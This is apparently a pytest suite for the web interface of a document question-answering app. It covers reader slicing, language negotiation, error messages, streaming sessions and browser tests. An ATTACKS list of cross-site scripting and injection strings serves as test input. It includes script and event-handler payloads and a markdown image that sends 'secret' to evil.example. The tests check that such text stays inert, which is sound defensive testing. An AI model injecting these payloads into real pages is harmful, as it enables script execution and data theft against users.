"""The web page: its HTML, and the whole of it in a real browser on a real index."""

from collections.abc import Generator, Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from threading import Event
from typing import Any, cast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from index.documents import Chunk, Document, Heading, Hit, Place, document_id
from index.errors import UnknownDocument
from index.filters import Filter
from index.store import DocumentSummary
from index.trash import Discarded
from rag.answer import Answer, Citation, Dropped, Receipt, Sentence
from rag.chatbot import Status
from rag.errors import EmptyQuestion, QuestionTooLong
from rag.question import Question, Turn
from rag.verify_text import CheckedSentence
from tests.browser import Opener, ask
from tests.test_serve import Server, fonte, serving
from ui.conversation import Asked, Conversation, Told
from ui.desk import Desk, Shown
from ui.examples import examples
from ui.faults import explain
from ui.library import Library
from ui.library_room import FileRow
from ui.line import Line
from ui.markdown import answer_markdown
from ui.page import Page, pieces
from ui.preload import Preload
from ui.room_page import RoomPage
from ui.shown import ShownAnswers
from ui.words import ENGLISH, ITALIAN, LANGUAGES, preferred

ATTACKS = (
    "<script>window.broken = 1</script>",
    "<img src=x onerror='window.broken = 1'>",
    '"><svg onload="window.broken = 1">',
    "' onmouseover='window.broken = 1",
    "</span></button></details><style>body { display: none }</style>",
    "![x](https://evil.example/?q=secret) [click](javascript:window.broken=1)",
    "{{ 7 * 7 }} ${window.broken = 1} {% raw %} `x` <!-- --> &lt;b&gt;",
    "[1]: https://evil.example/ <https://evil.example>",
)


class Shelf:
    """A corpus that holds documents and nothing else."""

    generation = 1

    def __init__(self, *documents: Document) -> None:
        self._documents = {document.id: document for document in documents}

    def document(self, document_id: str) -> Document:
        if document_id not in self._documents:
            raise UnknownDocument(document_id)
        return self._documents[document_id]

    def languages(self) -> frozenset[str]:
        return frozenset(document.language for document in self._documents.values())

    def summaries(self) -> list[DocumentSummary]:
        return [
            DocumentSummary(d.id, d.collection, d.uri, d.title, d.language, d.published, 1)
            for d in self._documents.values()
        ]


def a_document(text: str, title: str = "Title", uri: str = "notes/a.md", **more: Any) -> Document:
    return Document(document_id("default", uri), "default", uri, title, "it", text, **more)


def an_answer(document: Document, question: str, start: int, end: int, outcome: str = "answered") -> Answer:
    quote = document.text[start:end]
    citation = Citation(1, document.id, document.title, document.uri, "p. 1", start, end, quote, "2024-06-04")
    chunk = Chunk(1, document.id, 0, len(document.text), document.text)
    answered = outcome == "answered"
    return Answer(
        question=question,
        query=question,
        language="en",
        outcome="answered" if answered else "refused",
        sentences=(Sentence(quote, (citation,), "quoted"),) if answered else (),
        text=quote if answered else f"No document mentions {question}.",
        hits=(Hit(chunk, 0.5, ("dense",)),),
        receipt=Receipt("none", "minilm", 1, {}, 0.75, {"total": 12.0}),
        dropped=(Dropped(quote, (quote,)),),
    )


class Parsed(HTMLParser):
    """What a browser would make of HTML: its elements with their attributes, and its words."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Return elements and the names of their attributes: what text must never be able to change."""
    return [(tag, tuple(sorted(attributes))) for tag, attributes in Parsed(html).elements]


def everything_told(hostile: Document, attack: str) -> list[Told]:
    """Return an answer, a refusal and a question that was stopped, asked of documents of the same name."""
    asked = Asked(attack, Filter((attack,), (attack,), attack, attack), attack, attack, attack)
    answered = an_answer(hostile, attack, 0, len(attack))
    refused = an_answer(hostile, attack, 0, len(attack), "refused")
    return [
        Told(asked, answered, answered.sentences),
        Told(asked, refused),
        Told(asked, None, answered.sentences),
    ]


def everything_of_the_library(hostile: Document, attack: str) -> list[str]:
    shelf: Any = Shelf(hostile)
    page = RoomPage(ENGLISH)
    answer = an_answer(hostile, attack, 0, len(attack))
    checked = CheckedSentence(attack, 0, len(attack), "contradicted", (attack,), answer.sentences[0].citations)
    file = FileRow(1, attack, attack, attack, "failed", attack, True)
    documents = Library(shelf).documents()
    return [
        page.rows(documents, [file], 1, 2, True, {documents[0].id: attack}, ()),
        page.bin([Discarded(attack, attack, attack, attack, datetime(2026, 1, 1, tzinfo=UTC))], 7),
        page.checked(checked, 1, shelf),
        page.within([attack, "b"]),
        page.turn(1, Told(Asked(attack), answer, answer.sentences), shelf, opinion=attack),
    ]


def everything(attack: str) -> list[str]:
    """Return every kind of HTML that is made, with an attack in every place that others may write."""
    hostile = a_document(f"{attack} Coda.", attack, attack, metadata={"source": attack})
    page = Page(ENGLISH)
    shelf: Any = Shelf(hostile)
    return [
        *(page.turn(1, told, shelf) for told in everything_told(hostile, attack)),
        page.turn(1, Told(Asked(attack), None, an_answer(hostile, attack, 0, len(attack)).sentences), shelf, attack),
        page.reader(hostile, 0, len(attack)),
        *everything_of_the_library(hostile, attack),
        page.examples([attack]),
        page.status(attack),
    ]


class TestInert:
    @pytest.mark.parametrize("attack", ATTACKS)
    def test_an_attack_is_words(self, attack: str) -> None:
        for harmless, hostile in zip(everything("plain"), everything(attack), strict=True):
            assert shape(hostile) == shape(harmless)
            assert " ".join(attack.split()) in " ".join(Parsed(hostile).words.split())

    @given(st.text(st.characters(exclude_categories=["Cs"]), min_size=1).filter(str.strip))
    def test_any_text_is_words(self, text: str) -> None:
        for harmless, hostile in zip(everything("plain"), everything(text), strict=True):
            assert shape(hostile) == shape(harmless)

    def test_no_template_runs_or_loads_anything(self) -> None:
        for html in everything("plain"):
            for tag, attributes in Parsed(html).elements:
                assert tag not in {"script", "style", "img", "iframe", "a", "link", "object", "form", "svg"}
                assert not [name for name in attributes if name.startswith("on") or name in {"href", "src", "style"}]

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_copied_markdown_makes_nothing_of_it(self, attack: str) -> None:
        from markdown_it import MarkdownIt

        hostile = a_document(attack, attack, attack)
        answer = an_answer(hostile, attack, 0, len(attack))
        tokens = MarkdownIt("commonmark").parse(answer_markdown(attack, answer.sentences, attack))
        kinds = {child.type for token in tokens for child in (token, *(token.children or []))}
        assert not kinds & {"link_open", "image", "html_inline", "html_block", "code_inline", "heading_open"}

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_neither_the_login_nor_a_name_runs_anything(self, attack: str) -> None:
        page = RoomPage(ENGLISH)
        assert shape(page.login(attack, attack, f"/{attack}")) == shape(page.login("plain", "plain", "/plain"))
        assert shape(page.frame("before", "./", attack)) == shape(page.frame("before", "./", "plain"))


class TestReader:
    TEXT = "Titolo\n\nPrimo paragrafo. Seconda frase.\n\nAltro"
    DOCUMENT = a_document(TEXT, pages=(Place(0, "p. 1"), Place(25, "p. 2")), headings=(Heading(0, 6, 1, "Titolo"),))

    def test_shows_the_stored_text_and_nothing_else(self) -> None:
        for start, end in ((0, 0), (0, 6), (3, 30), (8, 24), (40, len(self.TEXT))):
            found = pieces(self.DOCUMENT, start, end, 0, len(self.TEXT))
            assert "".join(piece.text for piece in found) == self.TEXT
            assert "".join(piece.text for piece in found if piece.cited) == self.TEXT[start:end]
        assert [piece.label for piece in found if piece.label] == ["p. 1", "p. 2"]

    @given(st.text(), st.integers(0, 50), st.integers(0, 50), st.integers(0, 50), st.integers(0, 50))
    def test_any_cut_is_whole(self, text: str, start: int, end: int, first: int, stop: int) -> None:
        first, stop = sorted((min(first, len(text)), min(stop, len(text))))
        document = a_document(text, headings=(Heading(1, 4, 2, text[1:4]),))
        found = pieces(document, start, end, first, stop)
        assert "".join(piece.text for piece in found) == text[first:stop]
        cited = text[max(first, start) : max(first, start, min(stop, end))]
        assert "".join(piece.text for piece in found if piece.cited) == cited

    def test_shows_a_long_document_in_parts(self) -> None:
        text = "".join(f"Riga {number}.\n" for number in range(60_000))
        document = a_document(text)
        start = text.index("Riga 30000.")
        html = Page(ENGLISH).reader(document, start, start + 11)
        assert len(html) < 120_000
        assert "<mark>Riga 30000.</mark>" in html
        assert "Earlier text" in html
        assert "Later text" in html
        last = Page(ENGLISH).reader(document, at=len(text))
        assert "Riga 59999." in last
        assert "Later text" not in last


class TestWords:
    @pytest.mark.parametrize(
        ("header", "language"),
        [
            ("it-IT,it;q=0.9,en-US;q=0.8,en;q=0.7", "it"),
            ("en-GB,en;q=0.9,it;q=0.8", "en"),
            ("de-DE,de;q=0.9,it;q=0.3,en;q=0.2", "it"),
            ("de", "en"),
            ("", "en"),
            ("it;q=0", "en"),
            ("*;q=0.1, IT", "it"),
            ("it;q=x,,;;", "en"),
        ],
    )
    def test_the_language_that_a_browser_asks_for(self, header: str, language: str) -> None:
        assert preferred(header) == language

    @given(st.text())
    def test_any_header_gives_a_language(self, header: str) -> None:
        assert preferred(header) in LANGUAGES

    def test_examples_are_names_that_titles_share_and_then_titles(self) -> None:
        titles = ["Nvidia, le GPU di Tesla", "Pika incassa 80 milioni", "Chi c'è dietro Pika", "Tesla giù in Borsa"]
        asked = examples(titles, ITALIAN)
        assert asked[:2] == ["Che cosa dicono i documenti su Tesla?", "Che cosa dicono i documenti su Pika?"]
        assert len(asked) == 4
        assert "«Nvidia, le GPU di Tesla»" in asked[2]
        assert examples([], ENGLISH) == []
        assert "“The Rise And Fall”" in examples(["The Rise And Fall"], ENGLISH)[0]


class TestFaults:
    def test_a_known_one_is_a_sentence_in_the_language_of_the_page(self) -> None:
        assert explain(EmptyQuestion("empty"), ITALIAN) == "Scrivi prima una domanda."
        assert "2,000" in explain(QuestionTooLong("long"), ENGLISH)
        assert "2.000" in explain(QuestionTooLong("long"), ITALIAN)
        assert explain(UnknownDocument("gone"), ENGLISH) == "This document is no longer in the index."

    def test_an_unforeseen_one_is_an_id_that_the_log_has(self, caplog: pytest.LogCaptureFixture) -> None:
        told = explain(RuntimeError("no space left on /srv/fonte"), ENGLISH)
        assert "/srv" not in told
        assert told.rstrip(".").rpartition(" ")[2] in caplog.text
        assert "no space left on /srv/fonte" in caplog.text


class Broken:
    """A chatbot that fails in the middle of an answer."""

    corpus = Shelf()

    def stream(self, question: Question) -> Iterator[Status]:
        yield Status("searching")
        raise RuntimeError("no space left on /srv/fonte")


def desk_of(chatbot: Any) -> Desk:
    library = Library(chatbot.corpus)
    return Desk(chatbot, library, ENGLISH, Preload(chatbot), Line(1, 1), ShownAnswers(Path("nowhere")))


class TestDesk:
    def test_a_fault_in_the_middle_of_an_answer_leaves_the_conversation_as_it_was(self) -> None:
        broken: Any = Broken()
        desk = desk_of(broken)
        first, second = Told(Asked("a")).past(), Told(Asked("b")).past()
        before = Conversation((first, second))
        for event in (
            desk.ask("why?", before, Filter()),
            desk.carry_out({"do": "edit", "turn": 1, "text": "why?"}, before, Filter()),
        ):
            *_, last = event
            assert last.conversation == before
            assert (last.question, last.earlier, last.current) == ("why?", first.html(), second.html())
            assert "Something went wrong" in last.status
            assert "/srv" not in last.status

    @pytest.mark.slow  # it imports Gradio
    def test_no_part_of_the_tab_gets_now_an_update_and_now_a_plain_value(self) -> None:
        """Gradio 6.31 then keeps every plain value in the session: 25 conversations grew by 170 MB in two minutes."""
        from ui.ask_tab import _updates

        every = [
            Shown(Conversation(), "status", "current", earlier, question, working)
            for earlier in (None, "", "<p>a</p>")
            for question in (None, "", "why?")
            for working in (True, False)
        ]
        kinds = {tuple(isinstance(part, dict) and "__type__" in part for part in _updates(shown)) for shown in every}
        assert len(kinds) == 1

    def test_nothing_comes_of_a_question_once_it_is_stopped(self) -> None:
        closed, goes_on = Event(), Event()

        class Slow:
            corpus = Shelf()

            def stream(self, question: Question) -> Iterator[Status | Sentence]:
                try:
                    yield Sentence("A first sentence.", (), "own")
                    goes_on.wait(30)
                    yield Sentence("A second sentence.", (), "own")
                    yield Sentence("A third sentence.", (), "own")
                finally:
                    closed.set()

        slow: Any = Slow()
        desk = desk_of(slow)
        working = desk.ask("why?", Conversation(), Filter())
        shown = [next(working) for _ in range(2)][-1]
        desk.stop(shown.conversation)
        *before, stopped = working  # although the model says nothing more
        assert before == [] and not stopped.working
        assert "A first sentence." in stopped.current
        assert [told.turn for told in stopped.conversation.turns] == [Turn("why?", "A first sentence.")]
        goes_on.set()
        assert closed.wait(30)

    def test_a_session_is_sent_an_answer_once_and_keeps_only_what_a_follow_up_may_lean_on(self) -> None:
        class Long:
            corpus = Shelf()

            def stream(self, question: Question) -> Iterator[Sentence]:
                yield Sentence("A long sentence. " * 1_000, (), "own")

        long: Any = Long()
        desk, conversation = desk_of(long), Conversation()
        for number in range(1, 4):
            *working, last = desk.ask("why?", conversation, Filter())
            assert f'id="turn-{number}"' in last.current and "A long sentence." in last.current
            earlier = [shown.earlier for shown in (*working, last) if shown.earlier is not None]
            assert all("sentence" not in sent and sent.count('class="past"') == number - 1 for sent in earlier)
            conversation = last.conversation
        assert len(conversation.history) == 3

    def test_who_goes_away_stops_the_writing(self) -> None:
        closed = Event()

        class Endless:
            corpus = Shelf()

            def stream(self, question: Question) -> Iterator[Status | Sentence]:
                try:
                    while True:
                        yield Status("writing")
                finally:
                    closed.set()

        endless: Any = Endless()
        working = cast(Generator[Shown, None, None], desk_of(endless).ask("why?", Conversation(), Filter()))
        next(working), next(working)
        working.close()
        assert closed.wait(30)

    @pytest.mark.parametrize(
        "sent",
        [
            None,
            "ask",
            {},
            {"do": "delete"},
            {"do": "again", "turn": 7},
            {"do": "again", "turn": -1},
            {"do": "ask", "x": 1},
        ],
    )
    def test_an_order_that_is_none_changes_nothing(self, sent: Any) -> None:
        broken: Any = Broken()
        past = Told(Asked("a")).past()
        before = Conversation((past,))
        (shown,) = desk_of(broken).carry_out(sent, before, Filter())
        assert (shown.conversation, shown.current) == (before, past.html())


HEADLINE = "why were Tesla's GPUs delayed?"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Serve seeds/ and a collection of documents that mean harm."""
    data, harmful = tmp_path_factory.mktemp("web"), tmp_path_factory.mktemp("harmful")
    for number, attack in enumerate(ATTACKS):
        title = attack.replace("\\", "").replace('"', "'")
        words = f"The lighthouse keeper of Vellamo counted {number + 3} seals. {attack} He painted the lighthouse."
        (harmful / f"<b onclick=x>{number}.txt").write_text(f"{title}\n\n{words}\n")
    for folder, collection in (("seeds", "default"), (str(harmful), "harmful")):
        made = fonte("sync", folder, "--data", str(data), "--collection", collection)
        assert made.returncode == 0, made.stderr
    with serving(data) as running:
        yield running


@pytest.mark.slow
class TestBrowser:
    def test_sessions_are_not_mixed(self, opened: Opener) -> None:
        first, second = opened(), opened()
        ask(first, HEADLINE)
        ask(second, "Quanto ha raccolto Pika?")
        ask(first, "Chi sono gli azionisti?")
        assert first.locator(".asked").all_text_contents() == [HEADLINE, "Chi sono gli azionisti?"]
        assert second.locator(".asked").all_text_contents() == ["Quanto ha raccolto Pika?"]

    def test_the_library_finds_and_opens(self, opened: Opener) -> None:
        page = opened()
        page.get_by_role("tab", name="Library").click()
        page.wait_for_selector(".library")
        assert page.locator(".library tbody tr").count() == 5 + len(ATTACKS)
        page.fill("#find input, #find textarea", "pika")
        page.wait_for_function("document.querySelectorAll('.library tbody tr').length === 2")
        assert page.locator(".count").text_content() == f"2 of {5 + len(ATTACKS)} documents"
        page.locator(".library .open").first.click()
        page.wait_for_selector("#reader .stored")
        assert "Pika" in page.locator("#reader h2").text_content()

    def test_a_question_keeps_to_its_collection(self, opened: Opener) -> None:
        page = opened()
        page.click("#within summary")
        page.locator("#within").get_by_label("harmful").check()
        ask(page, HEADLINE)
        assert page.locator("#current .scope").text_content() == "Search in: harmful"
        uris = page.locator("#current .place").all_text_contents()
        assert not [uri for uri in uris if "seeds/" in uri]

    def test_documents_that_mean_harm_are_words(self, opened: Opener) -> None:
        page = opened()
        page.click("#within summary")
        page.locator("#within").get_by_label("harmful").check()
        ask(page, "How many seals did the lighthouse keeper of Vellamo count?")
        page.click("#current summary")
        for opener in page.locator("#current .receipt .open").all():
            opener.click()
            page.wait_for_selector("#reader mark")
            assert "lighthouse keeper" in page.locator("#reader .stored").text_content()
            page.click("#reader .close")
        page.get_by_role("tab", name="Library").click()
        page.wait_for_selector(".library")
        assert page.locator("img, iframe, #rooms script, #rooms style, #reader script, #reader svg").count() == 0
        assert page.evaluate("window.broken") is None
        assert page.locator("#desk").count() == 1
